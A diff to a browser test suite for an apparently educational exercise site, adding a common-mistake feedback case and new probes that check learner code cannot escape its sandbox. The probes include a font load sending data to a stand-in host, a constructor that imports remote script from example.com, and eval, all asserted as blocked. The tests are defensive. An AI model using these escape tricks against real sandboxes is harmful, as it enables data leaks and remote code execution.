@@ -67,9 +67,15 @@ test('code exercise: wrong answer shows case and values; an infinite loop times 
   // A numeric exercise on another pane, answered wrong then right.
   await page.goto(`${site.url}${paneOf('sqrt-dk-numeric')}`);
   const num = page.locator('[data-exercise="sqrt-dk-numeric"]');
+  await num.locator('input').fill('7');
+  await num.locator('button.check').click();
+  assert.match(await verdictText(page, 'sqrt-dk-numeric'), /^Not yet: 7 is not the expected value/);
+  // a common mistake declared in the exercise gets its own message, without the expected value
   await num.locator('input').fill('64');
   await num.locator('button.check').click();
-  assert.match(await verdictText(page, 'sqrt-dk-numeric'), /^Not yet: 64 is not the expected value/);
+  const told = await verdictText(page, 'sqrt-dk-numeric');
+  assert.match(told, /^Not yet: 64 — that is d_k itself/);
+  assert.doesNotMatch(told, /\b8\b/);
   await num.locator('input').fill('8');
   await num.locator('button.check').click();
   assert.match(await verdictText(page, 'sqrt-dk-numeric'), /^Correct/);
@@ -85,7 +91,7 @@ test('code exercise: wrong answer shows case and values; an infinite loop times 
   const stored = JSON.parse(await page.evaluate((k) => localStorage.getItem(k), KEY));
   assert.equal(stored.version, 1);
   assert.equal(stored.exercises[id].solved, true);
-  assert.equal(stored.exercises['sqrt-dk-numeric'].attempts, 2);
+  assert.equal(stored.exercises['sqrt-dk-numeric'].attempts, 3, 'three answers: 7, 64, 8');
   assert.deepEqual(consoleErrors, []);
   assert.deepEqual(foreignRequests, []);
   await context.close();
@@ -230,6 +236,13 @@ test('learner code has no DOM, storage or network; experiments are recomputed by
     storage: () => navigator.storage.getDirectory(),
     doc: () => document.title,
     local: () => localStorage.getItem('x'),
+    fontface: () => new FontFace('x', 'url(http://example.com/leak?s=1)').load(),
+    fonts: () => self.fonts.add(null),
+    ctor: () => Function('return import("http://example.com/x.js")')(),
+    protoCtor: () => (function () {}).constructor('return 1')(),
+    asyncCtor: () => (async () => {}).constructor('return 1')(),
+    genCtor: () => (function* () {}).constructor('yield 1')(),
+    evil: () => eval('1 + 1'),
   };
   for (const [k, f] of Object.entries(probes)) {
     try { f(); console.log(k, 'ALLOWED'); } catch (e) { console.log(k, 'blocked:', e.message); }
@@ -240,7 +253,8 @@ test('learner code has no DOM, storage or network; experiments are recomputed by
   assert.match(await verdictText(page, 'softmax-stable'), /^Failed/, 'the forged postMessage did not produce a pass');
   const out = await ex.locator('.result-output pre').first().textContent();
   assert.doesNotMatch(out, /ALLOWED/);
-  for (const k of ['fetch', 'protoFetch', 'xhr', 'socket', 'idb', 'caches', 'importScripts', 'post', 'storage', 'local']) {
+  for (const k of ['fetch', 'protoFetch', 'xhr', 'socket', 'idb', 'caches', 'importScripts', 'post', 'storage', 'local',
+    'fontface', 'fonts', 'ctor', 'protoCtor', 'asyncCtor', 'genCtor', 'evil']) {
     assert.match(out, new RegExp(`^${k} blocked: \\S+ is not available in exercises`, 'm'), out);
   }
   assert.match(out, /^doc blocked: document is not defined$/m);
